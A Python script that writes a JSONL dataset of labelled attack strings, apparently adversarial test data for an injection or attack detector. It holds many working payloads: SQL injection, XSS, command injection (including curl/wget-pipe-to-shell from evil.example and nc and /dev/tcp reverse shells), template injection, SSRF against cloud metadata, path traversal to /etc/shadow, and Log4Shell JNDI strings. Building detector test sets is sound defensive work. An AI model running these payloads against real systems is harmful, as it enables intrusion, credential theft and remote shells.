#!/usr/bin/env python3
"""Writes adversarial-s11.jsonl: payloads written for session 11's
adversarial pass (from attack-tool knowledge, not from the corpora)."""
import json, sys

SQLI = r"""1' AND 1=1 AND 'a'='a
1'/**/AND/**/5678=5678/**/AND/**/'x'='x
1' AND 5678 NOT BETWEEN 0 AND 5677-- -
1' AND 5678 LIKE 5678-- -
1' AND GREATEST(5678,5677)=5678-- -
1'/*!0AND 5678=5678-- -
1' /*!30874AND 5678=5678*/-- -
1' aNd 5678=5678-- -
1'--abc
AND--def
5678=5678
1'#abc
AND#def
5678=5678
1' UNION SELECT NULL,NULL-- sp_password
1' && 5678=5678-- -
1' AND IF(ISNULL(1),2,1)=1-- -
1' UNION SELECT password FROM users LIMIT 1 OFFSET 0-- -
1' UNION SELECT CONCAT_WS(MID(CHAR(0),0,0),user,password) FROM users-- -
1 AND $$a$$=$$a$$
1' AND $tag$x$tag$=$tag$x$tag$-- -
x' OR $$1$$=$$1$$ --
1 OR $q$a b$q$=$q$a b$q$
It\'s me' OR 1=1-- -
x\\' OR 'a'='a
x\' OR 1=1-- -
Mc\'Donald admin'--
O\'Brien' UNION SELECT password FROM users-- -
' OR E'a'=E'a'--
' OR N'a'=N'a'--
' OR q'[a]'=q'[a]'--
' OR _utf8'a'=_utf8'a'--
' OR [a]=[a]--
1 OR 0x61=0x61
1'; EXEC xp_cmdshell 'whoami'--
1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(0x7e,version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -
1' AND extractvalue(1,concat(0x7e,(select user())))-- -
1) OR (1=1
admin' or 1 like 1#
1 AND ascii(substring((select password from users limit 1),1,1))>64
-1' UNION SELECT 1,2,group_concat(table_name) FROM information_schema.tables WHERE table_schema=database()-- -
';SELECT pg_sleep(5)--
1' WAITFOR DELAY '0:0:5'--
1 OR JSON_EXTRACT('{"a":1}','$.a')=1
1' AND 1=CAST((SELECT version()) AS int)-- -
1' AND 1=(SELECT 1 FROM pg_sleep(5))-- -
' OR U&'a'=U&'a'--
1' ORDER BY 9-- -
1' GROUP BY 1,2,3 HAVING 1=1-- -
' OR 'x'='x' LIMIT 1-- -
1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))""".split("\n")
# the two space2dash/space2hash payloads span lines: join them back
def join_multiline(lines):
    out, i = [], 0
    while i < len(lines):
        if lines[i] in ("1'--abc", "1'#abc"):
            out.append("\n".join(lines[i:i + 3])); i += 3
        else:
            out.append(lines[i]); i += 1
    return out
SQLI = join_multiline(SQLI)
SQLI.append("1'\x0bAND\x0b5678=5678\x0bAND\x0b'a'='a")

XSS = r"""<d3v/onauxclick=(((confirm)))``>
<a/href="j&Tab;a&Tab;v&Tab;asc&NewLine;ri&Tab;pt&colon;confirm()">click
<details/open/ontoggle=confirm()>
<img src=x onerror=top[`al`+`ert`](1)>
<svg onload=setTimeout`alert\u00281\u0029`>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">
"><svg/onload=prompt(1)>
'-alert(1)-'
";alert(1)//
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<body onpageshow=alert(1)>
<input autofocus onfocus=alert(1)>
<video><source onerror=alert(1)>
<marquee onstart=alert(1)>
<object data="javascript:alert(1)">
<embed src=javascript:alert(1)>
<form><button formaction=javascript:alert(1)>x
<x onclick=alert(1)>click
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a>
<script>eval(atob('YWxlcnQoMSk='))</script>
<img src=1 onerror=window['al'+'ert'](1)>
<svg onload=alert&#40;1&#41;>
<a href="&#x6a;avascript:alert(1)">x
{{constructor.constructor('alert(1)')()}}
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<base href="javascript:/a/-alert(1)///////">
"onmouseover="alert(1)
' autofocus onfocus='alert(1)
</script><script>alert(1)</script>
<svg><script>alert&lpar;1&rpar;</script>
<img src=x:x onerror=import('//evil.example/x.js')>
<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<a href=javas&#99;ript:alert(1)>x
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<svg><set attributeName=onmouseover to=alert(1)>
<img src=x onerror=alert?.(1)>
<img src=x onerror=alert.call(null,1)>
<img src=x onerror=[1].find(alert)>
<img src=x onerror=Reflect.apply(alert,null,[1])>
javascript:alert(document.domain)
<svg/onload=location=`javas`+`cript:ale`+`rt(1)`>
"-confirm`1`-"
<img src=x onerror="&#x61;lert(1)">
<style>*{background:url(javascript:alert(1))}</style>""".split("\n")

CMDI = r"""; echo ETJQYE$((30+63))$(echo ETJQYE)ETJQYE
|echo${IFS}ABCDEF$((97+3))
;sleep 5
&& sleep${IFS}5
`sleep 5`
|| ping -c 5 127.0.0.1
;cat$IFS/etc/passwd
;c''at /e??/p?sswd
;/???/c?t /etc/passwd
;{cat,/etc/passwd}
;a=$'\x63\x61\x74';$a /etc/passwd
$(printf '\x69\x64')
;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh
;curl http://evil.example/x|sh
;wget -qO- evil.example/s|bash
|nc -e /bin/sh 10.0.0.1 4444
;bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
;python -c 'import os;os.system("id")'
& whoami
| type C:\windows\win.ini
&& powershell -enc SQBFAFgA
| cmd /c dir
;$(rev<<<'di')
;${PATH:0:1}bin${PATH:0:1}id
;w'h'o'am'i
;wh\oami
;ls${IFS}-la
;id;#
|| whoami #
`id`
;perl -e 'print 1'
127.0.0.1;uname -a
127.0.0.1|id
;echo $((1337*7))
;tac /etc/passwd
;more /etc/shadow
;X=$'uname\x20-a'&&$X
a;$(echo id)
x|$(printf "\151\144")
;${x:-c}at /etc/hosts
;ca\t /etc/hosts
&&dir&&
| Get-Content C:\Windows\win.ini
;busybox nc 10.0.0.1 4444 -e sh""".split("\n")
CMDI.append("127.0.0.1\nuname -a")

SSTI = r"""${"z".concat("a")}
${'z'.concat('a')}
#{"z".concat("a")}
${"a".toUpperCase()}
${"".getClass().forName("java.lang.Runtime")}
{{7*'7'}}
{{config.__class__.__init__.__globals__['os'].popen('id').read()}}
{{''.__class__.__mro__[1].__subclasses__()}}
{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}
{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}
{{lipsum.__globals__.os.popen('id').read()}}
{{cycler.__init__.__globals__.os.popen('id').read()}}
${T(java.lang.Runtime).getRuntime().exec('id')}
*{T(java.lang.Runtime).getRuntime().exec('id')}
#{7*7}
${{7*7}}
<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
${"freemarker.template.utility.Execute"?new()("id")}
#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))
$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")
{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
{{['id']|filter('system')}}
{php}echo `id`;{/php}
{system('id')}
<%= 7*7 %>
<%= system('id') %>
<%= `id` %>
%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}
%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{"id"})).start()}
${@java.lang.Runtime@getRuntime().exec("id")}
{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}
${7*'7'}
@System.Diagnostics.Process.Start("cmd.exe")
{{ self.__init__.__globals__.__builtins__ }}
{{=it.constructor.constructor('return 1')()}}
#{T(java.lang.System).getenv()}
${"a"+"b"}
${'a'.concat('b')}
{{"z".concat("a")}}
${"z".replace("z","a")}
#{'a'.concat('b')}
${"abc".substring(1)}
{{'abc'|upper}}
${product.getClass().getProtectionDomain()}
{{ "".__class__ }}
${request.getClass().getClassLoader()}
{{app.request.server.all|join(',')}}""".split("\n")

NOSQL = r"""{"$gt": ""}
{"$where": "sleep(5000)"}
'; return true; var x='
' || '1'=='1
{"$regex": ".*"}
true, $where: '1 == 1'
{"$ne": 1}
{"username": {"$in": ["admin"]}}
' && this.password.match(/.*/)//
{"$expr": {"$gt": [1,0]}}
'; while(true){} '
{"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}
{"$nin": [""]}
{"$exists": true}
' || 1==1//
'; sleep(5000); '
{"$or": [{"a": 1}, {"b": {"$ne": 0}}]}
this.password.length > 0
{"password": {"$regex": "^a"}}
0; return true""".split("\n")

LDAP = r"""*)(uid=*))(|(uid=*
admin)(&)
*)(|(objectClass=*)
admin*)((|userPassword=*)
x)(cn=*))
*)(&(objectClass=user)(description=*
admin)(!(&(1=0)
*))(|(cn=*
)(uid=*))(|(uid=*
*)(mail=*
admin)(|(password=*)
*)(objectclass=*))(&(objectclass=void""".split("\n")

XPATH = r"""' or count(//user)>0 or 'a'='b
'] | //password | a['
x' or name()='username' or 'x'='y
' and substring(//user[1]/password,1,1)='a' and ''='
' or string-length(//user[1]/name)=5 or ''='
' or true() or '
' or 1=1 or ''='
x' or contains(//user/name,'a') or 'x'='y
'] | //* | a['
' or position()=1 or ''='""".split("\n")

SSRF = r"""http://169.254.169.254/latest/meta-data/
http://[::ffff:a9fe:a9fe]/
http://0251.0376.0251.0376/
http://2852039166/
http://0xa9.0xfe.0xa9.0xfe/
http://metadata.google.internal/computeMetadata/v1/
http://127.1/
http://0/
gopher://127.0.0.1:6379/_FLUSHALL
dict://127.0.0.1:11211/stat
file:///etc/passwd
http://localhost:8080@evil.example
http://[::1]:22/
http://100.100.100.200/latest/meta-data/
http://[fd00:ec2::254]/latest/meta-data/
jar:http://evil.example!/
netdoc:///etc/passwd
ldap://127.0.0.1:389/
http://0177.0.0.1/
http://instance-data/latest/
http://169.254.170.2/v2/credentials
http://[0:0:0:0:0:ffff:127.0.0.1]/
http://127.0.0.1:2375/containers/json
http://localhost:9200/_cat/indices""".split("\n")

LFI = r"""....//....//....//etc/passwd
..%252f..%252f..%252fetc/passwd
..\..\..\windows\win.ini
/etc/passwd%00.jpg
php://filter/convert.base64-encode/resource=index.php
php://filter/read=string.rot13/resource=config.php
data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==
expect://id
zip://uploads/x.zip%23shell.php
phar://uploads/x.jpg/shell.php
/proc/self/environ
/proc/self/fd/0
..%c0%af..%c0%afetc/passwd
..;/..;/etc/passwd
/var/log/apache2/access.log
C:\boot.ini
file:///c:/windows/win.ini
....\\....\\windows\\win.ini
/./././././etc/passwd
..%5c..%5cwindows%5cwin.ini
php://input
/etc/shadow
../../../../../../../../../../../etc/hosts
../.env
../../WEB-INF/web.xml
/WEB-INF/web.xml
..././..././etc/passwd
%2e%2e/%2e%2e/%2e%2e/etc/passwd
php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd
/proc/self/cmdline""".split("\n")

JAVA = r"""${jndi:ldap://x.example/a}
${${lower:j}ndi:ldap://x.example/a}
${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}
${j${k8s:k5:-ND}i:ldap://x.example/a}
${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.example/a}
${jndi:dns://x.example}
${${upper:j}ndi:ldap://x.example/a}
${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}
${${base64:am5kaQ==}:ldap://x.example/a}
class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c}i
rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHA=
${script:javascript:java.lang.Runtime.getRuntime().exec('id')}
T(java.lang.Runtime).getRuntime().exec('id')
${jndi:${lower:l}${lower:d}a${lower:p}://x.example/a}
${${sys:nothing:-j}ndi:ldap://x.example/a}""".split("\n")

def main(out):
    with open(out, "w") as f:
        for kind, items in [("sqli", SQLI), ("xss", XSS), ("cmdi", CMDI), ("ssti", SSTI),
                            ("nosql-injection", NOSQL), ("ldap-injection", LDAP), ("xpath", XPATH),
                            ("ssrf", SSRF), ("lfi", LFI), ("java", JAVA)]:
            for v in items:
                f.write(json.dumps({"source": "adversarial-s11", "label": "attack",
                                    "attack_type": kind, "value": v}) + "\n")

main(sys.argv[1] if len(sys.argv) > 1 else "adversarial-s11.jsonl")
